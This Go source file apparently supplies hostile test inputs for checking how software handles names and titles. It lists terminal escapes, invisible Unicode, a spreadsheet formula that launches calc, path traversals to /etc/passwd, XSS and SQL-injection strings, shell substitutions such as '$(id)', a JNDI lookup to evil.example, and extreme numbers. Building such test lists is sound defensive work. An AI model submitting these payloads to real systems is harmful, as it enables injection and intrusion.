package hostile

import "strings"

// Texts are what people and programs put into names and titles to do harm somewhere else: on a terminal, in a spreadsheet, in a page,
// in a path, in a message that is taken for a format.
var Texts = []string{
	// terminals
	"\x1b[2J\x1b[H", "\x1b]8;;https://evil.example\x1b\\here\x1b]8;;\x1b\\", "\x1b]0;title\a", "\u009b31m", "\u0085", "\x7f",
	"\r", "\n", "\t", "\b\b\b", "\x00", "a\x00.json",
	// what is not seen
	"\u202egnp.exe", "\u2066\u2069", "\u200b", "\u200f", "\u00ad", "\ufeff", "\u2028", "\U000e0041", "\U000e01ef", "\ufff9", "e\u0301",
	"\ue000", "\ufdd0", "\U0010ffff",
	// formulas
	`=cmd|' /C calc'!A0`, "+1", "-1", "@SUM(A1)", "\t=1+1", "\r=1+1", "'=1+1", "＝1+1",
	// paths and pointers
	"../../etc/passwd", `C:\Windows\System32`, `\\host\share`, "file:///etc/passwd", "javascript:alert(1)", "CON", "~root", "/dev/null",
	".", "..", "~", "~1~0", "/",
	// pages
	"<script>alert(1)</script>", `"><img src=x onerror=alert(1)>`, "</textarea>", "{{.}}", "]]>", "<!--", "&lt;",
	// programs
	"%s%n%d%!", "%[1]s", "$(id)", "`id`", "'; DROP TABLE x; --", "${jndi:ldap://evil.example}", "__proto__",
	// lengths
	"", " ", "\u3000", "NaN", "null", strings.Repeat("長", 3000), strings.Repeat("a", 70), strings.Repeat("e\u0301", 500),
	strings.Repeat("\u202e", 200),
}

// numbers are none that any document may have in the place of a number.
var numbers = []string{
	"1e1000001", "-1e1000001", "1e-1000001", "-1e99999999", "1e400", "1e99999999999999999999", "-1", "-9223372036854775808",
	"9223372036854775807", "9223372036854775808", "18446744073709551616", strings.Repeat("9", 400), "-" + strings.Repeat("9", 400),
	"0." + strings.Repeat("0", 400) + "1", "1." + strings.Repeat("0", 400) + "1", "1E+400", "3e0",
	`"1"`, "null", "true", "[]", "{}", "[1]", `"1e1000001"`,
}
